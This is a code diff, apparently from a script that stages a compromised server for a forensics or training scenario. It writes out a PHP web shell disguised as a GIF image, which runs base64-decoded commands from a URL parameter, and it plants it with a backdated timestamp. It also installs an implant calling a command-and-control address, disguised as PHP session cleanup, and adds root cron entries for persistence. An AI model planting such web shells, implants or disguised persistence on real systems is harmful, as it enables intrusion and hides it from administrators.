@@ -69,12 +69,21 @@ def accounts():
 
 def staff():
     for account, password in ((TEAM['victim'], TEAM['victim_password']), ('minhquan', TEAM['clerk_password'])):
-        command = ['setpriv', '--reuid=33', '--regid=33', '--clear-groups', '/srv/gom/bin/nhan-vien', 'password', account]
+        command = [
+            'setpriv',
+            '--reuid=33',
+            '--regid=33',
+            '--clear-groups',
+            '/srv/gom/bin/nhan-vien',
+            'password',
+            account,
+        ]
         subprocess.run(command, input=f'{password}\n', text=True, check=True, stderr=subprocess.DEVNULL)
 
 
 def web_shell():
-    shell = "GIF89a\n<?php /* thumb */ @error_reporting(0);if(isset($_GET['x'])){system(base64_decode($_GET['x']).' 2>&1');}\n"
+    shell = "GIF89a\n<?php /* thumb */ @error_reporting(0);"
+    shell += "if(isset($_GET['x'])){system(base64_decode($_GET['x']).' 2>&1');}\n"
     upload = f'{NIGHT} 00:{int(TEAM["upload_minute"]):02d}:{int(TEAM["upload_second"]):02d}'
     put(f'/srv/gom/public/anh/sp/{TEAM["shell_name"]}', shell, upload, 0o644, (33, 33))
 
@@ -83,7 +92,8 @@ def implant():
     home = f'203.0.113.66|{TEAM["c2_port"]}|/{TEAM["implant_id"]}'
     source = pathlib.Path('/opt/restore/implant.pl').read_text().replace('@HOME@', home.encode().hex())
     put('/usr/lib/php/sessionclean-gc', source, f'{NIGHT} 03:26:11', 0o755)
-    cron = '# php session garbage collection\n@reboot root /usr/lib/php/sessionclean-gc\n* * * * * root /usr/lib/php/sessionclean-gc\n'
+    cron = '# php session garbage collection\n'
+    cron += ''.join(f'{when} root /usr/lib/php/sessionclean-gc\n' for when in ('@reboot', '* * * * *'))
     put('/etc/cron.d/php-gc', cron, f'{NIGHT} 03:26:40')
 
 
